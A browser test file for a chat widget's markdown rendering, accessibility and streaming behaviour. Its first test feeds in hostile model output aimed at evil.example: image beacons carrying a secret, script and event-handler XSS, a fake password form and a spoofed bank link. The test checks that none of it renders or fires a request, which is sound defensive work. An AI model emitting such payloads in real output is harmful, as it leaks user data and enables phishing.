import { type MessagePart } from '@diosc/protocol';
import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { answer, userMessage } from '../../packages/client/test/fake-hub.ts';
import { inside, useBrowser, violations } from './browser-chat.ts';
import { stream } from './chat-page.ts';
import { ask, deltas, RICH_ANSWER } from './chat-states.ts';

const open = useBrowser();

describe('what a model writes', () => {
  const HOSTILE = `![logo](https://evil.example/pixel.png?secret=42) ![](//evil.example/2.png) <img src="https://evil.example/3.png" onerror="alert(1)">
<script>alert(1)</script><style>*{display:none}</style><form action="https://evil.example"><input name="password"></form><iframe src="https://evil.example"></iframe>
[run](javascript:alert(1)) [data](data:text/html,x) [relative](/logout) <https://evil.example/auto> [https://bank.example](https://evil.example)
[1]: https://evil.example/reference.png
![reference][1] <svg onload="alert(1)"><image href="https://evil.example/4.png"/></svg> <link rel="stylesheet" href="https://evil.example/x.css">`;

  it('loads nothing, runs nothing and becomes no form, image or style [UI-01]', async () => {
    const chat = await open();
    const { page, requests, complaints } = chat;
    const { message, connection } = await ask(chat, 'go');
    await stream(page, connection, deltas(message, 0, HOSTILE, 7));
    connection.send({ type: 'stream.end', message: { ...message, status: 'complete', parts: [{ type: 'text', text: HOSTILE }] } });
    await page.getByRole('button', { name: 'Send' }).waitFor();

    const selector =
      'img, picture, video, audio, object, embed, iframe, script, style, link, form:not(.composer), .markdown input, [style], [onload], [onerror]';
    expect(
      await inside(page, `[...root.querySelectorAll('${selector}')].map((element) => element.outerHTML)`, z.array(z.string())),
    ).toEqual([]);
    const links = await inside(
      page,
      `[...root.querySelectorAll('.markdown a')].map(({ href, rel, target }) => ({ href, rel, target }))`,
      z.array(z.record(z.string(), z.string())),
    );
    expect(links.map(({ href }) => href)).toEqual([
      'https://evil.example/pixel.png?secret=42',
      'https://evil.example/auto',
      'https://evil.example/',
      'https://evil.example/reference.png',
    ]);
    expect(links.every(({ rel, target }) => target === '_blank' && rel === 'noopener noreferrer nofollow ugc')).toBe(true);
    await page.getByText('image at evil.example').first().waitFor();
    await page.getByText('https://bank.example (evil.example)').waitFor();
    expect(requests.filter((url) => url.includes('evil.example'))).toEqual([]);
    expect(complaints).toEqual([]);
  });

  it('is drawn as tables, lists, code and links, and nothing of it widens the chat [UI-01]', async () => {
    const chat = await open({ attributes: ' open', context: { viewport: { width: 320, height: 560 } } });
    const { page } = chat;
    const wide = `${RICH_ANSWER}\n\n${'unbreakable'.repeat(30)}\n\n| ${'column | '.repeat(12)}\n|${'---|'.repeat(12)}\n| ${'cell cell | '.repeat(12)}`;
    const parts: MessagePart[] = [{ type: 'text', text: wide }];
    await chat.session({ resumed: true, messages: [userMessage('w'.repeat(400)), answer({ status: 'complete', parts })] });
    await page.getByRole('table').first().waitFor();
    expect(await page.getByRole('columnheader').first().textContent()).toBe('Order');
    expect(await page.getByRole('listitem').count()).toBe(3);
    const overflow = await inside(
      page,
      `[...root.querySelectorAll('.panel, .messages, .answer')].map((box) => box.scrollWidth - box.clientWidth)`,
      z.array(z.number()),
    );
    expect(overflow.every((pixels) => pixels <= 0)).toBe(true);
    expect(await violations(page)).toEqual([]);
  });

  it('is drawn once while it streams: what is settled keeps its elements and its selection [UI-01]', async () => {
    const chat = await open();
    const { page } = chat;
    const { message, connection } = await ask(chat, 'go');
    const text = 'First paragraph.\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nThird paragraph that goes on';
    await stream(page, connection, deltas(message, 0, text));
    await page.getByText('Third paragraph').waitFor();
    await page.evaluate(`{
      const root = document.querySelector('diosc-chat').shadowRoot;
      globalThis.kept = [...root.querySelectorAll('.markdown > p, .markdown table')];
      globalThis.changes = [];
      new MutationObserver((records) => changes.push(...records.map(({ target }) => target.textContent))).observe(root.querySelector('.markdown > p'), { childList: true, characterData: true, subtree: true });
    }`);
    const rest = ' and on. It ends.';
    await stream(page, connection, [{ type: 'stream.delta', messageId: message.id, index: 0, offset: text.length, delta: rest }]);
    await page.getByText('It ends.').waitFor();
    connection.send({ type: 'stream.end', message: { ...message, status: 'complete', parts: [{ type: 'text', text: text + rest }] } });
    await page.getByRole('button', { name: 'Send' }).waitFor();
    const isKept = `globalThis.kept.length === 3 && [...root.querySelectorAll('.markdown > p, .markdown table')].every((element, index) => element === globalThis.kept[index])`;
    expect(await inside(page, isKept, z.boolean())).toBe(true);
    expect(await page.evaluate('globalThis.changes')).toEqual([]);
  });

  it('says to which sides a wide table or code goes on, and lets the keyboard go there [UI-01]', async () => {
    const chat = await open();
    const { page } = chat;
    const row = (cell: string) => `| ${`${cell} | `.repeat(9)}`;
    const text = `${row('heading')}\n${row('---')}\n${row('some cell')}\n\n| small |\n|---|\n| 1 |\n\n\`\`\`sh\n${'echo wide; '.repeat(20)}\n\`\`\`\n\n\`\`\`sh\nls\n\`\`\``;
    await chat.session({ resumed: true, messages: [userMessage('x'), answer({ status: 'complete', parts: [{ type: 'text', text }] })] });
    const table = page.getByRole('group', { name: 'Table, scroll sideways to see all of it' });
    await table.waitFor();
    const sides = () =>
      inside(page, `[...root.querySelectorAll('.wide')].map((wide) => wide.dataset.more)`, z.array(z.string().optional()));
    await expect.poll(sides).toEqual(['right', '', 'right', '']);
    expect(await page.getByRole('group', { name: 'Code, scroll sideways to see all of it' }).count()).toBe(1);
    expect(await inside(page, `[...root.querySelectorAll('.table, pre')].map((box) => box.tabIndex)`, z.array(z.number()))).toEqual([
      0, -1, 0, -1,
    ]);

    await table.focus();
    await page.keyboard.press('ArrowRight');
    await expect.poll(sides).toEqual(['left right', '', 'right', '']);
    await table.evaluate((box) => box.scrollTo(10_000, 0));
    await expect.poll(sides).toEqual(['left', '', 'right', '']);
    expect(await violations(page)).toEqual([]);
  });
});

describe('who listens', () => {
  it('hears whole sentences of a streaming answer, each once, and no history [UI-01]', async () => {
    const chat = await open();
    const { page } = chat;
    const history = answer({ status: 'complete', parts: [{ type: 'text', text: 'This was said yesterday.' }] });
    const { connection } = await chat.session({ resumed: true, messages: [userMessage('x'), history] });
    await page.getByText('This was said yesterday.').waitFor();
    await page.evaluate(`{
      globalThis.heard = [];
      const region = document.querySelector('diosc-chat').shadowRoot.querySelector('[aria-live=polite]');
      new MutationObserver(() => heard.push(region.textContent.trim())).observe(region, { childList: true, characterData: true, subtree: true });
    }`);
    const message = answer();
    connection.send({ type: 'stream.start', message });
    const text = 'You have **three** orders. The first is [1042](https://shop.example/1042). And';
    await stream(page, connection, deltas(message, 0, text, 5));
    const heard = () => expect.poll(() => page.evaluate('globalThis.heard.join(" ")'), { timeout: 10_000 });
    await heard().toBe('You have three orders. The first is 1042.');
    connection.send({ type: 'stream.end', message: { ...message, status: 'complete', parts: [{ type: 'text', text: `${text} more` }] } });
    await heard().toBe('You have three orders. The first is 1042. And more');
    expect(await page.getByRole('log').getAttribute('aria-live')).toBe('off');
  });
});
